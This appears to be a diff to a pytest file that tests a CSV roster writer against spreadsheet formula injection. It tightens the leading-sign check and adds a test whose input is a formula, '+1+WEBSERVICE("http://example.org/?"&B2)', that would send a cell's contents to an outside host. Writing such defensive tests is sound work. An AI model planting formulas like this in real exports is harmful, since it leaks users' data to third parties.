@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 from datetime import UTC, datetime
 
 import pytest
@@ -42,7 +43,14 @@ def test_a_line_is_one_row_without_a_formula(cells: dict[str, str], delimiter: s
     (row,) = csv.reader(io.StringIO(line + "\n", newline=""), delimiter=delimiter)
     assert len(row) == len(COLUMNS)
     assert not any(cell.startswith(("=", "@", "-", "\t")) for cell in row)
-    assert not any(cell.startswith("+") and not cell[1:2].isdigit() for cell in row)
+    assert not any(re.match(r"\+.*[^\d ().-]", cell) for cell in row)
+
+
+def test_only_a_phone_number_begins_with_a_sign() -> None:
+    """`+1` before anything else is the beginning of a sum."""
+    unit, phone = '+1+WEBSERVICE("http://example.org/?"&B2)', "+1 (860) 555-0160"
+    written = roster_line.line({"unit": unit, "phone": phone}, ("unit", "phone"), ";")
+    assert written == '"1+WEBSERVICE(""http://example.org/?""&B2)";+1 (860) 555-0160'
 
 
 def test_a_line_keeps_what_was_said() -> None:
